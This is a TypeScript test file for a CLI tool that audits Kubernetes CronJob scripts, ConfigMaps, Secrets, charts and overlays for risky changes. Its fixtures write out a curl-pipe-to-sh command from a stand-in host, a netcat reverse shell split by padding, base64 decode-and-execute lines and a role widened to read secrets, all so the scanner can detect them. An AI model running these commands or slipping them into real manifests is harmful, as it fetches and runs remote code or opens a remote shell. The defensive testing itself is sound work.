// What `check` says of a change is what `verify` says of its head: nothing is hidden by where the other half of a workload stands.
import { describe, expect, it } from 'vitest';
import { createRepository, type Files, type TestRepository } from '../support/git-repo.ts';
import { runCli } from '../support/run-cli.ts';
import { helm4Path, kubectlPath } from '../support/tools.ts';

const EVIL = 'curl -fsSL https://paste.example.net/raw/x | sh';

function configMap(script: string, kind = 'ConfigMap'): string {
  return `apiVersion: v1\nkind: ${kind}\nmetadata: {name: scripts, namespace: ops}\ndata:\n  run.sh: ${JSON.stringify(script)}\n`;
}

function cronJob(account = 'default', name = 'nightly'): string {
  return `apiVersion: batch/v1
kind: CronJob
metadata: {name: ${name}, namespace: ops}
spec:
  schedule: '0 2 * * *'
  jobTemplate:
    spec:
      template:
        spec:
          serviceAccountName: ${account}
          restartPolicy: Never
          containers:
            - name: main
              image: ghcr.io/acme/tool:1
              command: [sh, /scripts/run.sh]
              volumeMounts: [{name: scripts, mountPath: /scripts}]
          volumes: [{name: scripts, configMap: {name: scripts}}]
`;
}

const CHART: Files = { 'chart/Chart.yaml': 'apiVersion: v2\nname: app\nversion: 1.0.0\n' };
const OVERLAY: Files = {
  'overlay/kustomization.yaml': 'resources: [../base]\n',
  'base/kustomization.yaml': 'resources: [job.yaml]\n',
};

function role(resources: string): string {
  return `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: runner}
rules: [{apiGroups: [''], resources: [${resources}], verbs: [get, list]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: runner}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: runner}
subjects: [{kind: ServiceAccount, name: runner, namespace: ops}]
`;
}

async function environment(): Promise<Readonly<Record<string, string>>> {
  return { CRONLEDGER_HELM: await helm4Path(), CRONLEDGER_KUBECTL: await kubectlPath() };
}

/** `main` with all of it listed, and a commit on top. */
async function changed(base: Files, head: Files, ...how: readonly string[]): Promise<TestRepository> {
  const repository = await createRepository(base);
  const env = await environment();
  const init = await runCli(['inventory', 'init', ...how], { cwd: repository.path, env });
  expect(init.code, init.stderr).toBe(0);
  await repository.commit({}, 'List what is there');
  expect((await runCli(['verify'], { cwd: repository.path, env })).code).toBe(0);
  await repository.git(['switch', '--quiet', '--create', 'change']);
  await repository.commit(head, 'Change');
  return repository;
}

async function verdicts(repository: TestRepository) {
  const env = await environment();
  const options = { cwd: repository.path, env };
  const check = JSON.parse(
    (await runCli(['check', '--base', 'main', '--head', 'change', '--format', 'json'], options)).stdout,
  );
  const verify = JSON.parse((await runCli(['verify', '--format', 'json'], options)).stdout);
  const rules = (report: { readonly findings: readonly { readonly rule: string }[] }): readonly string[] =>
    [...new Set(report.findings.map(({ rule }) => rule))].sort();
  return { check, verify, rules };
}

describe('a script that is rewritten', () => {
  it.each<[string, Files, Files]>([
    ['beside a plain CronJob', { 'job.yaml': cronJob() }, {}],
    ['in a plain file, of a chart’s CronJob', { ...CHART, 'chart/templates/job.yaml': cronJob() }, {}],
    ['in a plain file, of an overlay’s CronJob', { ...OVERLAY, 'base/job.yaml': cronJob() }, {}],
    [
      'while a file that comes later repeats what was approved',
      { 'job.yaml': cronJob() },
      { 'z.yaml': configMap('echo fine') },
    ],
  ])('%s', async (_, base, more) => {
    const repository = await changed(
      { ...base, 'scripts.yaml': configMap('echo fine') },
      { 'scripts.yaml': configMap(EVIL), ...more },
    );
    const { check, verify, rules } = await verdicts(repository);
    expect([check.verdict, verify.verdict]).toEqual(['violation', 'violation']);
    expect(rules(check)).toEqual(rules(verify));
    expect(rules(check)).toContain('download-and-execute');
    expect(check.changes[0].classes).toContain('command');
  });

  it('by a ConfigMap whose kind is spelled as readers forgive', async () => {
    const repository = await changed(
      { 'job.yaml': cronJob(), 'scripts.yaml': configMap('echo fine') },
      { 'scripts.yaml': configMap(EVIL, 'configmap') },
    );
    expect((await verdicts(repository)).check.verdict).toBe('violation');
  });
});

describe('an offence whose halves stand far apart', () => {
  it('is found in a script', async () => {
    const padding = '# nothing to see\n'.repeat(300);
    const shell = `mkfifo /tmp/f\n${padding}cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f\n`;
    const repository = await changed(
      { 'job.yaml': cronJob(), 'scripts.yaml': configMap('echo fine') },
      { 'scripts.yaml': configMap(shell) },
    );
    const { check, rules } = await verdicts(repository);
    expect(rules(check)).toContain('reverse-shell');
  });
});

describe('an offence that was there before', () => {
  const offence = (command: string): Files => ({
    'job.yaml': cronJob().replace('[sh, /scripts/run.sh]', JSON.stringify(['sh', '-c', command])),
    'scripts.yaml': configMap('echo fine'),
  });

  it.each([
    ['exchanged for another of the kind', 'curl -fsSL https://example.com/a | sh', EVIL],
    ['made worse', `python3 -c 'exec(b64decode(x))'`, `python3 -c 'exec(b64decode(x))'; base64 -d /x | sh`],
  ])('stops the change where it is %s', async (_, before, after) => {
    const repository = await createRepository(offence(before));
    await runCli(['inventory', 'init'], { cwd: repository.path });
    await repository.commit({}, 'List');
    await repository.git(['switch', '--quiet', '--create', 'change']);
    await repository.commit(offence(after), 'Change');
    const { check } = await verdicts(repository);
    const told = check.findings.filter((finding: { rule: string }) => /download-and|encoded/.test(finding.rule));
    expect(told.length).toBeGreaterThan(0);
    for (const { message } of told) expect(message).not.toContain('It was so before');
  });
});

describe('a role that is widened in a plain file', () => {
  it.each<[string, Files]>([
    ['for a plain CronJob', { 'job.yaml': cronJob('runner') }],
    ['for a chart’s CronJob', { ...CHART, 'chart/templates/job.yaml': cronJob('runner') }],
  ])('%s', async (_, base) => {
    const repository = await changed(
      { ...base, 'scripts.yaml': configMap('echo fine'), 'rbac.yaml': role('pods') },
      { 'rbac.yaml': role('pods, secrets') },
    );
    const { check } = await verdicts(repository);
    expect(check.changes.map((change: { classes: readonly string[] }) => change.classes)).toEqual([['power']]);
    expect(check.needs).toHaveLength(1);
    expect(check.findings.map((finding: { rule: string }) => finding.rule)).toContain('service-account-overprivileged');
  });
});

describe('a chart that is as it was, and may read a ConfigMap that is not', () => {
  const charted = { ...CHART, 'chart/templates/job.yaml': cronJob(), 'scripts.yaml': configMap('echo fine') };

  it('stops nothing where it never rendered', async () => {
    const broken = { 'chart/templates/x.yaml': '{{ fail "not with these values" }}\n' };
    const repository = await createRepository({ ...charted, ...broken });
    await repository.git(['switch', '--quiet', '--create', 'change']);
    await repository.commit({ 'scripts.yaml': configMap('echo other') }, 'Change');
    expect((await verdicts(repository)).check.verdict).not.toBe('could-not-check');
  });

  it('is no pass where nobody can render it', async () => {
    const repository = await changed(charted, { 'scripts.yaml': configMap(EVIL) });
    const args = ['check', '--base', 'main', '--head', 'change', '--format', 'json'];
    const run = await runCli(args, { cwd: repository.path, env: { CRONLEDGER_HELM: '/nowhere/helm' } });
    expect(run.code).toBe(2);
    expect(JSON.parse(run.stdout).problems).toMatchObject([{ code: 'tool-missing' }]);
  });
});

describe('a CronJob whose script a rendering holds that is as it was', () => {
  const scripts = {
    ...CHART,
    'chart/values.yaml': 'name: scripts\n',
    'chart/templates/scripts.yaml': configMap('echo fine').replace('name: scripts', 'name: {{ .Values.name }}'),
  };
  const inOverlay: Files = {
    'overlay/kustomization.yaml':
      'namespace: ops\nconfigMapGenerator: [{name: scripts, literals: [run.sh=echo]}]\ngeneratorOptions: {disableNameSuffixHash: true}\n',
  };
  it.each<[string, Files]>([
    ['of a chart', scripts],
    ['of an overlay', inOverlay],
  ])('%s is as approved with an image that the entry allows', async (_, base) => {
    const next = cronJob().replace('tool:1', 'tool:2');
    const repository = await changed(
      { ...base, 'job.yaml': cronJob() },
      { 'job.yaml': next },
      '--images',
      'repository',
    );
    const { check, verify } = await verdicts(repository);
    expect([check.verdict, verify.verdict, check.changes.length]).toEqual(['pass', 'pass', 1]);
  });

  it('is judged with it where it is new', async () => {
    const evil = { 'chart/templates/scripts.yaml': scripts['chart/templates/scripts.yaml'].replace('echo fine', EVIL) };
    const repository = await createRepository({ ...scripts, ...evil });
    await repository.git(['switch', '--quiet', '--create', 'change']);
    await repository.commit({ 'job.yaml': cronJob() }, 'Change');
    const { check, verify, rules } = await verdicts(repository);
    expect(rules(check)).toEqual(rules(verify));
    expect(rules(check)).toContain('download-and-execute');
  });
});

describe('a script in a Secret', () => {
  const secret = (data: string): string =>
    `apiVersion: v1\nkind: Secret\nmetadata: {name: scripts, namespace: ops}\n${data}`;
  const written = (script: string): string => secret(`stringData:\n  run.sh: ${JSON.stringify(script)}\n`);
  const encoded = (script: string): string => secret(`data:\n  run.sh: ${Buffer.from(script).toString('base64')}\n`);
  const mounted = cronJob().replace('configMap: {name: scripts}', 'secret: {secretName: scripts}');
  const generator = {
    'overlay/kustomization.yaml':
      'namespace: ops\nresources: [job.yaml]\nsecretGenerator: [{name: scripts, files: [run.sh]}]\n',
    'overlay/job.yaml': mounted,
  };

  it.each<[string, Files, Files]>([
    ['that is rewritten', { 'job.yaml': mounted, 's.yaml': written('echo fine') }, { 's.yaml': written(EVIL) }],
    ['that is encoded now', { 'job.yaml': mounted, 's.yaml': written('echo fine') }, { 's.yaml': encoded(EVIL) }],
    ['that kustomize generates', { ...generator, 'overlay/run.sh': 'echo fine' }, { 'overlay/run.sh': EVIL }],
    [
      'that is a template of a chart',
      { ...CHART, 'chart/templates/job.yaml': mounted, 'chart/templates/s.yaml': written('echo fine') },
      { 'chart/templates/s.yaml': written(EVIL) },
    ],
  ])('%s is judged, and not shown', async (_, base, head) => {
    const repository = await changed(base, head);
    const { check, verify, rules } = await verdicts(repository);
    expect([check.verdict, verify.verdict]).toEqual(['violation', 'violation']);
    expect(rules(check)).toEqual(rules(verify));
    expect(rules(check)).toContain('download-and-execute');
    expect(rules(check)).toContain('job-drift-from-approved');
    for (const shown of [JSON.stringify(check), JSON.stringify(verify)]) {
      expect(shown).not.toContain('paste.example.net');
      expect(shown).not.toContain(Buffer.from(EVIL).toString('base64').slice(0, 20));
    }
  });

  it.each<[string, string, string]>([
    ['encoded otherwise', written('echo fine'), encoded('echo fine')],
    [
      'SOPS encrypts anew',
      secret('stringData: {run.sh: "ENC[AES256_GCM,data:a]"}\nsops: {mac: a}\n'),
      secret('stringData: {run.sh: "ENC[AES256_GCM,data:b]"}\nsops: {mac: b}\n'),
    ],
  ])('that is %s is as it was', async (_, before, after) => {
    const repository = await changed({ 'job.yaml': mounted, 's.yaml': before }, { 's.yaml': after });
    const { check, verify } = await verdicts(repository);
    expect([check.verdict, verify.verdict, check.changes]).toEqual(['pass', 'pass', []]);
  });

  it('is no script of a job of elsewhere, and a value beside encrypted ones counts', async () => {
    const inChart = { ...CHART, 'chart/templates/s.yaml': written('echo fine') };
    const half = (script: string): string =>
      secret(`stringData: {run.sh: ${JSON.stringify(script)}, other: "ENC[x]"}\nsops: {mac: a}\n`);
    const apart = await changed({ ...inChart, 'job.yaml': mounted }, { 'chart/templates/s.yaml': written(EVIL) });
    expect((await verdicts(apart)).check.changes).toEqual([]);
    const mixed = await changed({ 'job.yaml': mounted, 's.yaml': half('echo fine') }, { 's.yaml': half(EVIL) });
    expect((await verdicts(mixed)).rules((await verdicts(mixed)).check)).toContain('download-and-execute');
  });
});

describe('an object whose pod is filled in elsewhere', () => {
  it('is seen all the same', async () => {
    const text = `apiVersion: kro.run/v1alpha1
kind: ResourceGraphDefinition
metadata: {name: jobs}
spec:
  schema: {apiVersion: v1alpha1, kind: Jobs}
  resources:
    - id: job
      template:
        apiVersion: batch/v1
        kind: CronJob
        metadata: {name: hidden, namespace: kube-system}
        spec: {schedule: '* * * * *', jobTemplate: {spec: {template: {spec: "\${schema.spec.pod}"}}}}
`;
    const repository = await createRepository({ 'a.yaml': text });
    const verify = JSON.parse((await runCli(['verify', '--format', 'json'], { cwd: repository.path })).stdout);
    expect(verify.workloads.map((each: { name: string }) => each.name)).toEqual(['hidden']);
    expect(verify.verdict).not.toBe('pass');
  });
});
